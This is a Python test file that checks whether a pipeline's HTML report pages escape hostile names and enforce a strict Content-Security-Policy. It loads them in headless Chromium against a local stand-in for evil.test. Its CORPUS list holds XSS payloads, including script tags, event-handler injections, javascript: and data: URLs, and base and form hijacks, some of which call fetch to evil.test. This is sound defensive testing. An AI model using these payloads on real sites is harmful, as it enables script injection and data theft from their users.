"""Pages of hostile names, in a browser: no script of theirs runs, nothing is fetched, and each name is text.

Left out where there is no browser, but for the checks of the policy's own text.
"""

from __future__ import annotations

import base64
import hashlib
import re
import shutil
import socketserver
import subprocess
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from benchmarks import steering_page
from pipelines.reports import caption_pages, comparison_page, dub_page, pages, store_page
from pipelines.store.summary import Facts, FailureGroup, Split
from tests.pipelines.reports.test_comparison_page import full, rows_of
from v2a_models.recipe import Recipe

BROWSER = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), ""
)

MARK = "document.title='hijacked';fetch('http://evil.test/ran')"
CORPUS = [
    f"<script>{MARK}</script>.mp4",
    f"</script><script>{MARK}</script>",
    f'"><img src=x onerror="{MARK}">',
    f"' onmouseover='{MARK}' autofocus onfocus='{MARK}",
    f"<svg onload={MARK}>",
    f"</textarea></title></style><style>@import 'http://evil.test/a.css';</style><svg/onload={MARK}>",
    "<link rel=stylesheet href=http://evil.test/b.css><img src=http://evil.test/c.png>",
    '<iframe src="http://evil.test/d.html"></iframe><object data=http://evil.test/e></object>',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/f">',
    "<base href=http://evil.test/><form action=http://evil.test/g><button autofocus>",
    f"javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    "<!--", "-->", "]]>", "&lt;b&gt;&amp;quot;&#x3c;",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %>",
    "a\u202egpj.exe\u202c \u2066isolated\u2069",
    "null\x00byte \x1b[31mred \x07",
    "emoji \N{PARTY POPPER}\N{ZERO WIDTH JOINER}\N{FAMILY} \u0301\u0301\u0301 \u05e9\u05dc\u05d5\u05dd",
    "long " + 10_000 * "w",
]  # fmt: skip
PIXEL = base64.b64decode("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")


def report(folder: Path) -> Path:
    rows: list[dict[str, Any]] = []
    for at, name in enumerate(CORPUS):
        shown = dict(video_id=str(at), path=name, prompt=name, caption=name, reason=name, container=name[:20])
        shown |= dict(duration_s=9.0, card="_v2a/cards/a.webp", contact_sheet="_v2a/cards/a.webp")
        rows.append(shown | dict(status="dubbed", output=name, n_flags=1, static=name, model=name,
                                 flags=[dict(start_s=1.0, end_s=2.0, what=name)], seams=[dict(at_s=2.0, jump=3.0)],
                                 captions=[dict(start_s=0.0, text=name)]))  # fmt: skip
        rows.append(
            shown | dict(video_id=f"f{at}", status="failed", error_class=name, error=name, stage=name)
        )
    (folder / "_v2a" / "cards").mkdir(parents=True)
    (folder / "_v2a" / "cards" / "a.webp").write_bytes(PIXEL)
    dub_page.write(
        str(folder),
        rows,
        {name: CORPUS[at] for at, name in enumerate(("archive", "model", "command", "note"))},
    )
    return folder / "_v2a" / "report.html"


def captions(folder: Path) -> Path:
    rows = [dict(path=name, status=status, error=name, caption=name, start_s=0.0)
            for name in CORPUS for status in ("captioned",)]  # fmt: skip
    rows += [
        dict(path=f"{name} again", status="failed", error=name, caption="", start_s=0.0) for name in CORPUS
    ]
    page = caption_pages.captions_html(
        rows, dict.fromkeys(CORPUS, PIXEL), archive=CORPUS[0], model=CORPUS[1], summary=CORPUS[2]
    )
    return written(folder, page)


def store(folder: Path) -> Path:
    facts = Facts(
        CORPUS[0], {}, Recipe(CORPUS[1]), splits={"train": Split(rows=2, seconds=8.0)}, problems=list(CORPUS)
    )
    facts.labels = Counter(dict.fromkeys(CORPUS, 2))
    facts.left_out = dict.fromkeys(CORPUS, 1)
    facts.failures = [FailureGroup(name, name, 1, [name], name) for name in CORPUS]
    picture = f"data:image/gif;base64,{base64.b64encode(PIXEL).decode()}"
    array = dict(name=CORPUS[2], shape="1", facts=CORPUS[3], warn=CORPUS[4], height=40, image=picture)
    same = dict(split="train", start="0", length="4", card=picture, arrays=[array], mask="")
    same |= dict(audio="data:audio/wav;base64,")
    clips = [dict(label=name, text=name, path=name, why=name, fault=name, **same) for name in CORPUS]
    return written(folder, store_page.render_store(facts, clips))


def comparison(folder: Path) -> Path:
    summary = full()
    summary |= dict(command=CORPUS[0], store=CORPUS[1], notes=list(CORPUS))
    for system, name in zip(summary["systems"], CORPUS, strict=False):
        system |= dict(
            about=name, model=name, failed=1, failures=[dict(clip=name, reason=name) for name in CORPUS]
        )
    rows = rows_of(summary, len(CORPUS))
    rows = [row | dict(label=CORPUS[int(row["clip"][1:])], path=CORPUS[int(row["clip"][1:])]) for row in rows]
    (folder / "p.png").write_bytes(PIXEL)
    return written(
        folder, comparison_page.report_html(summary, rows, {CORPUS[0]: "p.png"}, listen="listen.html")
    )


def listening(folder: Path) -> Path:
    summary = full()
    # One pair is shown at a time.
    return written(folder, comparison_page.listen_html(summary, [(CORPUS[1], "mini", "large")], 0))


def steering(folder: Path) -> Path:
    takes = [steering_page.Variant(name, b"film", ".mp4", PIXEL, name, {name: name}) for name in CORPUS]
    facts = dict(clip=CORPUS[0], model=CORPUS[1], caption=CORPUS[2])
    return written(folder, steering_page.steering_html(takes, duration_s=4.0, seed=0, **facts))


def written(folder: Path, page: str) -> Path:
    (folder / "page.html").write_text(page, encoding="utf-8")
    return folder / "page.html"


PAGES: dict[str, tuple[Callable[[Path], Path], list[str]]] = {
    "report": (report, CORPUS), "captions": (captions, CORPUS), "store": (store, CORPUS),
    "comparison": (comparison, CORPUS), "listening": (listening, CORPUS[1:2]), "steering": (steering, CORPUS),
}  # fmt: skip


class Text(HTMLParser):
    """Text of a page as a reader sees it: no scripts, styles or attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.inside, self.parts = 0, [""]
        self.markup: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.markup.append((tag, dict(attrs)))
        self.inside += tag in ("script", "style")

    def handle_endtag(self, tag: str) -> None:
        self.inside -= tag in ("script", "style")

    def handle_data(self, data: str) -> None:
        if not self.inside:
            self.parts.append(data)


def plain(text: str) -> str:
    """Text without what browsers and parsers may replace: control characters, runs of spaces."""
    return " ".join(re.sub(r"[\x00-\x08\x0e-\x1f\ufffd]", "", text).split())


@pytest.fixture(scope="module")
def evil() -> Iterator[tuple[int, list[str]]]:
    """A server that stands for every host on the internet; its port, and what it was asked for."""
    asked: list[str] = []

    class Listen(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            asked.append(self.rfile.readline().decode("latin-1"))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Listen) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield int(server.server_address[1]), asked
        server.shutdown()


def opened(page: Path, profile: Path, port: int) -> tuple[str, str]:
    """The page's markup once its scripts have run, and what the console said."""
    command = [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--dump-dom",
               "--enable-logging=stderr", f"--host-resolver-rules=MAP evil.test 127.0.0.1:{port}",
               "--disable-background-networking", "--no-first-run", page.as_uri()]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=240, errors="replace")
    return done.stdout, "\n".join(line for line in done.stderr.splitlines() if "CONSOLE" in line)


@pytest.mark.timeout(600)
@pytest.mark.skipif(not BROWSER, reason="no browser")
@pytest.mark.parametrize("name", PAGES)
def test_names_are_text_and_nothing_else(name: str, tmp_path: Path, evil: tuple[int, list[str]]) -> None:
    make, shown = PAGES[name]
    port, asked = evil
    page = make(tmp_path)
    dom, console = opened(page, tmp_path / "profile", port)
    assert "hijacked" not in re.search("<title>(.*?)</title>", dom, re.DOTALL)[1].replace(MARK, "")  # type: ignore[index]
    assert not [request for request in asked if "evil" in request or "/ran" in request], "a request left"
    assert not re.search("Content.Security.Policy|Refused|Error", console), console
    text = Text(dom)
    seen = plain("".join(text.parts))
    for each in shown:
        assert plain(each) in seen, each[:80]
    for tag, attributes in text.markup:
        assert tag not in ("iframe", "object", "base", "form", "link", "embed"), tag
        assert not [key for key in attributes if key.startswith("on")], attributes
        for key in ("href", "src"):
            assert not re.match(r"\s*(javascript:|https?:|data:text)", attributes.get(key) or ""), attributes


@pytest.mark.timeout(600)
@pytest.mark.skipif(not BROWSER, reason="no browser")
def test_the_policy_stops_markup_that_was_not_escaped(tmp_path: Path, evil: tuple[int, list[str]]) -> None:
    """The second line: a page whose template forgot to escape. Its own script and style go on working."""
    port, asked = evil
    template = tmp_path / "page.j2"
    template.write_text(
        '{% extends "base.html.j2" %}{% block main %}{% for n in names %}{{ n | safe }}<hr>{% endfor %}'
        '<p id="own"></p><i class="{{ policy.sized("width: %.0fpx", 7) }}"></i>{% endblock %}{% block script %}'
        '{% filter script %}document.getElementById("own").textContent = '
        'getComputedStyle(document.querySelector(".sized-0")).width'
        "{% endfilter %}{% endblock %}"
    )
    names = [
        each for each in CORPUS if "refresh" not in each and "<!--" not in each and "textarea" not in each
    ]
    page = written(tmp_path, pages.render(template, names=names))
    dom, console = opened(page, tmp_path / "profile", port)
    assert "hijacked" not in dom.partition("</title>")[0]
    assert not [request for request in asked if "evil" in request or "/ran" in request], "a request left"
    assert "Content Security Policy" in console
    assert 'id="own">7px<' in dom, "the page's own script and styles apply"


@pytest.mark.parametrize("name", PAGES)
def test_each_policy_names_its_own_scripts_and_styles(name: str, tmp_path: Path) -> None:
    page = PAGES[name][0](tmp_path).read_text(encoding="utf-8")
    head, _, rest = page.partition("Content-Security-Policy")
    assert "<style" not in head and "<script" not in head and "<title" not in head, "before anything else"
    policy = re.match(r'" content="([^"]*)"', rest)[1]  # type: ignore[index]
    sources = dict(part.split(" ", 1) for part in policy.split("; "))
    assert sources["default-src"] == sources["base-uri"] == sources["form-action"] == "'none'"
    assert sources["require-trusted-types-for"] == "'script'"
    assert "unsafe" not in policy and "http" not in policy and "*" not in policy
    for kind in ("script", "style"):
        texts = re.findall(rf"<{kind}>(.*?)</{kind}>", page, re.DOTALL)
        hashes = {f"'sha256-{base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()}'" for t in texts}
        assert hashes == set(sources[f"{kind}-src"].split()), kind
    assert " style=" not in re.sub(r"<script.*?</script>", "", page, flags=re.DOTALL)
